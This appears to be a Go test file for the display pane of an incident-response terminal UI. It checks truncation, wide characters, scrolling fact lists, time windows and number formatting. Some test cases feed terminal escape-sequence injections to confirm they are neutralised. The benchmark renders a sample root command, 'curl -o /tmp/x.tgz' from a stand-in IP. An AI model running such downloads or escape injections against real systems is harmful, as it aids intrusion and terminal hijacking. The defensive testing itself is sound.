package pane

import (
	"strings"
	"testing"
	"time"

	"charm.land/lipgloss/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/gumshoe-ir/gumshoe/tui/theme"
)

var styles = theme.New(theme.Dark, false)

func TestCells(t *testing.T) {
	tests := []struct {
		name string
		draw func(c *Canvas)
		want string
	}{
		{"cut at the end", func(c *Canvas) { c.Cell(theme.Text, "abcdefgh", 5) }, "abcd…"},
		{"cut at the beginning", func(c *Canvas) { c.CellEnd(theme.Text, "abcdefgh", 5) }, "…efgh"},
		{"at the right", func(c *Canvas) { c.CellRight(theme.Text, "ab", 5) }, "   ab"},
		{"cut in the middle", func(c *Canvas) { c.CellMiddle(theme.Text, "/tmp/one/two/three", 12); c.Put(theme.Text, "|") }, "/tmp…o/three|"},
		{"a middle that fits", func(c *Canvas) { c.CellMiddle(theme.Text, "/tmp/one/two", 12); c.Put(theme.Text, "|") }, "/tmp/one/two|"},
		{"the middle of wide characters", func(c *Canvas) { c.CellMiddle(theme.Text, strings.Repeat("日", 20), 13); c.Put(theme.Text, "|") }, "日日日日日日…|"},
		{"fits exactly", func(c *Canvas) { c.Cell(theme.Text, "abcde", 5); c.Put(theme.Text, "|") }, "abcde|"},
		{"wide characters", func(c *Canvas) { c.Cell(theme.Text, "日本語", 5); c.Put(theme.Text, "|") }, "日本…|"},
		{"half a wide character", func(c *Canvas) { c.CellEnd(theme.Text, "日本語", 4); c.Put(theme.Text, "|") }, "…語 |"},
		{"hostile", func(c *Canvas) { c.Put(theme.Text, "a\x1b[31mb\n") }, `a\x1b[31mb\n`},
		{"hostile from its end", func(c *Canvas) { c.CellEnd(theme.Text, "abc\x1b]0;x\x07", 12) }, `…x1b]0;x\x07`},
		{"a mebibyte", func(c *Canvas) { c.Put(theme.Text, strings.Repeat("x", 1<<20)) }, strings.Repeat("x", 19) + "…"},
		{"a mebibyte of accents", func(c *Canvas) { c.Cell(theme.Text, "a"+strings.Repeat("\u0301", 1<<19), 4) }, "a\u0301\u0301⟪U…"},
		{"beyond the row", func(c *Canvas) { c.Space(18); c.Put(theme.Text, "abc"); c.Put(theme.Text, "d") }, strings.Repeat(" ", 18) + "a…"},
		{"nothing", func(c *Canvas) { c.Cell(theme.Text, "", 3) }, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := NewCanvas(styles, 20)
			c.Row(false)
			tt.draw(c)
			FitView(t, c.String(), 20, 1)
			if got := strings.TrimRight(ansi.Strip(c.String()), " "); got != strings.TrimRight(tt.want, " ") {
				t.Errorf("draws %q, want %q", got, tt.want)
			}
		})
	}
}

func FuzzCells(f *testing.F) {
	f.Add("日\x1b[31m\u0301", 5, true)
	f.Add("क्षि👩‍👩‍👧", 3, false)
	f.Fuzz(func(t *testing.T, s string, w int, end bool) {
		w = w & 63
		c := NewCanvas(styles, 40)
		c.Row(end)
		if end {
			c.CellEnd(theme.Text, s, w)
		} else {
			c.Cell(theme.Text, s, w)
		}
		FitView(t, c.String(), 40, 1)
		head, rest := breakLine(ansi.Strip(c.String()), max(w, 1))
		if head == "" && rest != "" {
			t.Fatalf("%q breaks into nothing and %q", s, rest)
		}
	})
}

func TestOver(t *testing.T) {
	base := "abcdef\n日本語\nuvwxyz"
	if got := ansi.Strip(Over(base, "XY\nXY", 1, 1)); got != "abcdef\n XY 語\nuXYxyz" {
		t.Errorf("%q", got)
	}
	if got := lipgloss.Width(Over(base, "much too long", 3, 0)); got != 6 {
		t.Errorf("%d cells", got)
	}
}

func TestFacts(t *testing.T) {
	f := NewFacts(styles)
	f.Set([]Fact{
		{Text: "title"},
		{Label: "WHO", Text: "root"},
		{Label: "WHO", Text: "uid 0"},
		{Label: "WHAT", Text: strings.Repeat("word ", 20)},
		{Label: "X", Text: strings.Repeat("y", 100<<10)},
	})
	f.Focus(true)
	Fit(t, f)
	f.Resize(30, 8)
	want := " title\n WHO     root\n         uid 0\n WHAT    word word word word\n"
	if got := plainText(f.View()); !strings.HasPrefix(got, want) {
		t.Errorf("shows\n%s", got)
	}
	for range 10 {
		f.Move(1)
	}
	if f.Selected().Label != "X" {
		t.Errorf("the cursor is on %v", f.Selected().Label)
	}
	f.Scroll(1 << 20)
	if !strings.Contains(f.View(), "…") {
		t.Error("a fact that was cut does not say so")
	}
	f.Scroll(-1 << 20)
	if !strings.HasPrefix(plainText(f.View()), " title") {
		t.Error("does not scroll back")
	}
}

// TestRenewedFactsStayWhereTheyAreRead grows facts below who reads them.
func TestRenewedFactsStayWhereTheyAreRead(t *testing.T) {
	facts := []Fact{{Label: "A", Text: "1"}, {Label: "B", Text: "2"}, {Label: "C", Text: "3"}, {Label: "D", Text: "4"}}
	f := NewFacts(styles)
	f.Resize(20, 2)
	f.Set(facts[:3])
	f.Move(2)
	before := f.View()
	f.Renew(facts)
	if f.Selected().Label != "C" || f.View() != before {
		t.Errorf("moved to %s:\n%s", f.Selected().Label, f.View())
	}
	f.Renew(facts[:1])
	if f.Selected().Label != "A" {
		t.Errorf("the cursor is on %s of one fact", f.Selected().Label)
	}
	f.Renew(nil)
	if f.Selected() != nil {
		t.Error("nothing has a fact")
	}
	f.Set(facts)
	if f.Selected().Label != "A" {
		t.Error("other facts do not begin at their first")
	}
}

func plainText(view string) string {
	var b strings.Builder
	for row := range strings.SplitSeq(ansi.Strip(view), "\n") {
		b.WriteString(strings.TrimRight(row, " ") + "\n")
	}
	return b.String()
}

func TestWindow(t *testing.T) {
	now := time.Date(2026, 11, 20, 17, 54, 2, 0, time.UTC)
	at := func(s string) time.Time {
		u, _ := time.Parse("15:04:05", s)
		return time.Date(2026, 11, 20, u.Hour(), u.Minute(), u.Second(), 0, time.UTC)
	}
	hour := Window{Span: time.Hour}
	tests := []struct {
		name string
		got  Window
		want Window
	}{
		{"closer", hour.Zoomed(true, now), Window{Span: 15 * time.Minute}},
		{"wider", hour.Zoomed(false, now), Window{Span: 6 * time.Hour}},
		{"no closer than a minute", Window{Span: time.Minute}.Zoomed(true, now), Window{Span: time.Minute}},
		{"widest is everything", Window{Span: 30 * 24 * time.Hour}.Zoomed(false, now), Window{}},
		{"closer than everything", Window{}.Zoomed(true, now), Window{Span: 30 * 24 * time.Hour}},
		{"odd spans find their neighbours", Window{Span: 2 * time.Hour}.Zoomed(true, now), hour},
		{"around a place", Window{time.Hour, at("12:00:00")}.Zoomed(true, at("11:30:00")), Window{15 * time.Minute, at("11:37:30")}},
		{"earlier", hour.Panned(false, now), Window{time.Hour, at("17:24:00")}},
		{"later comes back to now", Window{time.Hour, at("17:24:00")}.Panned(true, at("17:54:00")), hour},
		{"later than now is now", hour.Panned(true, now), hour},
		{"everything cannot be panned", Window{}.Panned(false, now), Window{}},
	}
	for _, tt := range tests {
		if tt.got != tt.want {
			t.Errorf("%s: %v, want %v", tt.name, tt.got, tt.want)
		}
	}
	if r := hour.Range(now); r.Until != 0 || r.Since != uint64(at("16:54:00").UnixNano()) {
		t.Errorf("a live hour asks for %v", r)
	}
}

func TestNumbers(t *testing.T) {
	tests := []struct{ got, want string }{
		{Count(0), "0"},
		{Count(9999), "9999"},
		{Count(18_234), "18.2k"},
		{Count(999_999), "999k"},
		{Count(4_123_000), "4.1M"},
		{Count(12_000_000_000), "12.0G"},
		{Full(30_118), "30,118"},
		{Full(999), "999"},
		{Full(1_000_000), "1,000,000"},
		{Size(212), "212B"},
		{Size(1_468_006), "1.4MiB"},
		{Rate(412.7), "410"},
		{Rate(5123), "5100"},
		{Rate(-1), "0"},
		{Short(1300 * time.Millisecond), "1.3s"},
		{Short(47 * time.Second), "47s"},
		{Short(26 * time.Hour), "26h"},
		{Short(72 * time.Hour), "3d"},
		{TTY(0x8803), "pts/3"},
		{TTY(0x401), "tty1"},
		{TTY(0), ""},
	}
	for _, tt := range tests {
		if tt.got != tt.want {
			t.Errorf("%q, want %q", tt.got, tt.want)
		}
	}
}

func TestStepsAreRound(t *testing.T) {
	tests := []struct {
		span    time.Duration
		columns int
		want    time.Duration
	}{
		{time.Minute, 60, time.Second},
		{time.Hour, 100, time.Minute},
		{24 * time.Hour, 100, 15 * time.Minute},
		{6 * time.Hour, 104, 4 * time.Minute},
		{30 * 24 * time.Hour, 100, 8 * time.Hour},
	}
	for _, tt := range tests {
		if got := Step(tt.span, tt.columns); got != tt.want {
			t.Errorf("Step(%v, %d) = %v, want %v", tt.span, tt.columns, got, tt.want)
		}
	}
}

func BenchmarkRow(b *testing.B) {
	c := NewCanvas(styles, 120)
	b.ReportAllocs()
	for b.Loop() {
		c.Reset(120)
		c.Row(false)
		c.Cell(theme.Muted, "17:54:09.118", 13)
		c.Cell(theme.Command, "cmd", 5)
		c.Cell(theme.Text, "curl -o /tmp/x.tgz http://203.0.113.9/x", 70)
		c.Cell(theme.Text, "root", 10)
		c.CellEnd(theme.Text, "billing/api-7c9", 20)
	}
}

func TestCleanRowDoesNotAllocate(t *testing.T) {
	c := NewCanvas(styles, 120)
	n := testing.AllocsPerRun(100, func() {
		c.Reset(120)
		c.Row(true)
		c.Cell(theme.Text, "curl -o /tmp/x.tgz http://203.0.113.9/x", 70)
		c.CellRight(theme.Muted, "1.3s", 10)
	})
	if n != 0 {
		t.Errorf("a clean row allocates %v times", n)
	}
}
